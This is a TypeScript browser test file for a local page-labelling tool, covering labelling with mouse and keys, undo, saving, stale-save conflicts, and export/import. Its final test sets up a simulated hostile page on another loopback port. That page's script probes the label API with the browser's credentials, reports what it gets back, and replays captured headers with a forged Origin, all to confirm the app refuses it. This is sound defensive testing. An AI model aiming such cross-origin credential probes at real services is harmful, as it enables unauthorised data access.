/**
 * End to end in real headless Chromium (playwright-core): label with mouse and keys, undo,
 * pick a subtree, save, reload, export and import. Skips when no Chromium is installed.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Workspace } from '../../src/annotate/workspace.js';
import { startLabelServer } from '../../src/annotate/server.js';
import { readPageLabels } from '../../src/corpus/pith-format.js';
import { http, tempCorpus } from './helpers.js';
import { playwrightOrSkip } from '../helpers/browser.js';
import { fileBrowser, withLabelApp } from './browser-app.js';


const step = (name: string): void => {
  if (process.env['PITH_DEBUG']) process.stderr.write(`step: ${name}\n`);
};


test('label in the browser: mouse, keys, undo/redo, subtree, save, reload, export, import', { timeout: 60_000 }, async (t) => {
  await withLabelApp(t, () => tempCorpus(), async ({ c, srv, browser }) => {
    const page = await browser.newPage({ viewport: { width: 1300, height: 900 } });
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    const snap = () => page.evaluate(() => (window as any).pithApp.snapshot()) as Promise<{ id: string; labels: string[]; revision: number; state: string; sel: [number, number] | null; order: string[] }>;
    await page.goto(srv.url);
    await page.waitForSelector('body[data-ready="article"]');
    const frame = page.frameLocator('#frame');

    step('Click a block and label it with a key; t');
    // Click a block and label it with a key; the selection moves on.
    await frame.locator('h1').click();
    await page.keyboard.press('t');
    let s = await snap();
    assert.equal(s.labels[1], 'title');
    assert.deepEqual(s.sel, [2, 2]);
    assert.equal(s.state, 'unsaved');
    assert.equal(await page.textContent('#state'), 'unsaved changes');

    step('Drag over a range of blocks, then label ');
    // Drag over a range of blocks, then label them all.
    const from = frame.locator('p', { hasText: 'first harbour seals' });
    const to = frame.locator('p', { hasText: 'Pollution' });
    // Playwright cannot drive a pressed-button mouse move inside an iframe (its drag
    // interception never answers), so the drag is dispatched as DOM events; shift+click,
    // the other way to select a range, uses real input below.
    await page.evaluate(() => {
      const doc = (document.getElementById('frame') as HTMLIFrameElement).contentDocument!;
      const ps = [...doc.querySelectorAll('p')];
      const a = ps.find((p) => /first harbour/.test(p.textContent!))!.querySelector('[data-pith-b]')!;
      const b = ps.find((p) => /Pollution/.test(p.textContent!))!.querySelector('[data-pith-b]')!;
      a.dispatchEvent(new MouseEvent('mousedown', { bubbles: true, button: 0, buttons: 1 }));
      b.dispatchEvent(new MouseEvent('mouseover', { bubbles: true, button: 0, buttons: 1 }));
      b.dispatchEvent(new MouseEvent('mouseup', { bubbles: true, button: 0, buttons: 0 }));
    });
    assert.deepEqual((await snap()).sel, [3, 5]);
    await from.click();
    await to.click({ modifiers: ['Shift'] });
    assert.deepEqual((await snap()).sel, [3, 5]);
    await page.keyboard.press('b');
    s = await snap();
    assert.deepEqual(s.labels.slice(3, 6), ['body', 'body', 'body']);

    step('Fix the heading caught in the range, und');
    // Fix the heading caught in the range, undo and redo it.
    await frame.locator('h2', { hasText: 'A long absence' }).click();
    await page.keyboard.press('h');
    assert.equal((await snap()).labels[4], 'heading');
    await page.keyboard.press('u');
    assert.equal((await snap()).labels[4], 'body');
    await page.keyboard.press('Control+y');
    assert.equal((await snap()).labels[4], 'heading');
    await page.keyboard.press('Control+z');
    await page.keyboard.press('Control+Shift+z');
    assert.equal((await snap()).labels[4], 'heading');

    step('Subtree picking: from one paragraph to t');
    // Subtree picking: from one paragraph to the whole <article>, then back.
    await frame.locator('p', { hasText: 'Volunteers' }).click();
    await page.keyboard.press('e');
    assert.deepEqual((await snap()).sel, [1, 8]);
    await page.keyboard.press('Shift+E');
    assert.deepEqual((await snap()).sel, [8, 8]);
    await page.keyboard.press('b');
    await frame.locator('h2', { hasText: 'What comes next' }).click();
    await page.keyboard.press('h');
    step('Toolbar buttons work as well as keys.');
    // Toolbar buttons work as well as keys.
    await frame.locator('p', { hasText: 'By A. Writer' }).click();
    await page.click('button[data-label="other"]');

    const labelled = (await snap()).labels;
    await page.keyboard.press('s');
    await page.waitForFunction(() => (window as any).pithApp.snapshot().state === 'saved');
    assert.equal((await snap()).revision, 1);
    assert.match((await page.textContent('#state')) ?? '', /saved \(revision 1\)/);
    assert.equal((await readPageLabels(c.dir, 'article'))?.revision, 1);

    step('Reload: the saved labels come back.');
    // Reload: the saved labels come back.
    await page.reload();
    await page.waitForSelector('body[data-ready="article"]');
    s = await snap();
    assert.deepEqual(s.labels, labelled);
    assert.equal(s.state, 'saved');
    assert.equal(await frame.locator('h1[data-pith-label="title"], h1 [data-pith-label="title"]').count(), 1);

    // The saved page went to the end of the queue: the other one is before it (p).
    assert.deepEqual(s.order, ['second', 'article']);
    await page.keyboard.press('p');
    await page.waitForSelector('body[data-ready="second"]');
    assert.equal(await page.evaluate(() => (window as any).pwned), undefined);

    step('Export from this session, import into a ');
    // Export from this session, import into a fresh corpus through the app's file input.
    // The export button downloads the bundle (fetched with the session header, saved from a blob).
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
    assert.equal(download.suggestedFilename(), 'test.pith-bundle.json');
    const bundle = await readFile((await download.path())!, 'utf8');
    assert.equal(JSON.parse(bundle).pages.length, 2);
    const c2 = await tempCorpus([]);
    const srv2 = await startLabelServer(await Workspace.open(c2.dir));
    try {
      const p2 = await browser.newPage();
      await p2.goto(srv2.url);
      await p2.waitForSelector('#message');
      await p2.setInputFiles('#import', { name: 'corpus.pith-bundle.json', mimeType: 'application/json', buffer: Buffer.from(bundle) });
      await p2.waitForFunction(() => /imported: 2 added/.test(document.getElementById('message')!.textContent ?? ''));
      await p2.waitForSelector('#queue li[data-id="article"]');
      const imported = await readPageLabels(c2.dir, 'article');
      assert.equal(imported?.title, 'Harbour seals return to the estuary');
      await p2.click('#queue li[data-id="article"]');
      await p2.waitForSelector('body[data-ready="article"]');
      assert.deepEqual((await p2.evaluate(() => (window as any).pithApp.snapshot())).labels, labelled);
    } finally {
      await srv2.close();
      await c2.cleanup();
    }
    assert.deepEqual(errors, []);
  });
});

test('a stale save shows a conflict and overwrites nothing', { timeout: 30_000 }, async (t) => {
  await withLabelApp(t, () => tempCorpus(['second.html']), async ({ c, srv, browser }) => {
    const page = await browser.newPage();
    await page.goto(srv.url);
    await page.waitForSelector('body[data-ready="second"]');
    step('Someone else saves first.');
    // Someone else saves first.
    const ws = await Workspace.open(c.dir);
    const n = (await ws.view('second')).blocks.length;
    await ws.save('second', Array.from({ length: n }, (_, i) => (i === 2 ? 'title' : 'other')), 0);
    await page.frameLocator('#frame').locator('h1').click();
    await page.keyboard.press('t');
    await page.keyboard.press('s');
    await page.waitForFunction(() => (window as any).pithApp.snapshot().state === 'conflict');
    assert.equal(await page.isVisible('#conflict'), true);
    assert.equal((await readPageLabels(c.dir, 'second'))?.revision, 1);
    step("Keeping one's own labels is an explicit ");
    // Keeping one's own labels is an explicit choice that saves over revision 1.
    await page.click('#keep-mine');
    await page.waitForFunction(() => (window as any).pithApp.snapshot().state === 'saved');
    assert.equal((await readPageLabels(c.dir, 'second'))?.revision, 2);
  });
});

/**
 * Another service on another loopback port, visited by the same browser: it records every
 * header the browser sends it (cookies for 127.0.0.1 reach every port) and serves a page
 * whose script tries the label API with the browser's credentials.
 */
async function hostileService(apiOrigin: string): Promise<{ url: string; seen: IncomingMessage['headers'][]; report: Promise<Record<string, string>>; close: () => Promise<void> }> {
  const seen: IncomingMessage['headers'][] = [];
  let gotReport!: (r: Record<string, string>) => void;
  const report = new Promise<Record<string, string>>((res) => (gotReport = res));
  const script = `
    const api = ${JSON.stringify(apiOrigin)};
    const out = {};
    const attempt = async (name, f) => { try { out[name] = await f(); } catch (e) { out[name] = 'refused: ' + e.name; } };
    (async () => {
      await attempt('queue', () => fetch(api + '/api/queue', { credentials: 'include' }).then((r) => r.status + ' ' + r.text()));
      await attempt('queue-with-header', () => fetch(api + '/api/queue', { credentials: 'include', headers: { 'x-pith-token': 'guess' } }).then((r) => r.text()));
      await attempt('export-no-cors', () => fetch(api + '/api/export', { credentials: 'include', mode: 'no-cors' }).then((r) => r.type + ' ' + r.status));
      await attempt('import-no-cors', () => fetch(api + '/api/import', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }).then((r) => r.type));
      await attempt('app-page', () => fetch(api + '/', { credentials: 'include' }).then((r) => r.text()));
      await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
    })();`;
  const server = createServer((req, res) => {
    seen.push(req.headers);
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (d: Buffer) => (body += d.toString('utf8')));
      req.on('end', () => {
        gotReport(JSON.parse(body) as Record<string, string>);
        res.end('ok');
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<!DOCTYPE html><title>some local dev server</title><script>${script}</script>`);
  });
  await new Promise<void>((res) => server.listen(0, '127.0.0.1', () => res()));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}/`, seen, report,
    close: () => new Promise<void>((res) => {
      server.closeAllConnections();
      server.close(() => res());
    }),
  };
}

test('a page on another loopback port gets neither the token nor the API, even with the browser\'s cookies; the app still works', { timeout: 60_000 }, async (t) => {
  const pw = await playwrightOrSkip(t);
  if (!pw) return;
  const c = await tempCorpus(['second.html']);
  const srv = await startLabelServer(await Workspace.open(c.dir));
  const evil = await hostileService(srv.origin);
  const context = await (await fileBrowser(pw)).newContext();
  try {
    const app = await context.newPage();
    await app.goto(srv.url);
    await app.waitForSelector('body[data-ready="second"]');
    assert.equal(new URL(app.url()).search, '', 'the token left the address bar');
    assert.deepEqual(await context.cookies(), [], 'the app sets no cookie');

    step('the same browser visits the other service');
    const other = await context.newPage();
    await other.goto(evil.url);
    const got = await evil.report;
    const leaked = JSON.stringify(got);
    assert.doesNotMatch(leaked, /second|headline|pith-corpus-bundle/i, leaked);
    assert.doesNotMatch(leaked, new RegExp(srv.token));
    assert.match(got['queue'] ?? '', /^refused/);
    assert.match(got['queue-with-header'] ?? '', /^refused/);

    step('whatever the browser sent it, replayed with a forged Host and Origin, opens nothing');
    assert.ok(evil.seen.length >= 2);
    for (const headers of evil.seen) {
      assert.doesNotMatch(JSON.stringify(headers), new RegExp(srv.token), 'the token never reaches another port');
      const replay: Record<string, string> = { origin: srv.origin, 'sec-fetch-site': 'same-origin', 'content-type': 'application/json' };
      if (headers.cookie) replay['cookie'] = headers.cookie;
      for (const [method, path] of [['GET', '/api/queue'], ['GET', '/api/export'], ['GET', '/api/pages/second'], ['POST', '/api/retrain']] as const) {
        const r = await http(srv.port, method, path, replay, method === 'POST' ? '{}' : undefined);
        assert.equal(r.status, 403, `${method} ${path} with ${JSON.stringify(replay)}`);
      }
    }

    step('the real app still labels and saves, also after a reload');
    await app.bringToFront();
    await app.reload();
    await app.waitForSelector('body[data-ready="second"]');
    await app.frameLocator('#frame').locator('h1').click();
    await app.keyboard.press('t');
    await app.keyboard.press('s');
    await app.waitForFunction(() => (window as any).pithApp.snapshot().state === 'saved');
    assert.equal((await readPageLabels(c.dir, 'second'))?.revision, 1);
  } finally {
    await context.close();
    await evil.close();
    await srv.close();
    await c.cleanup();
  }
});
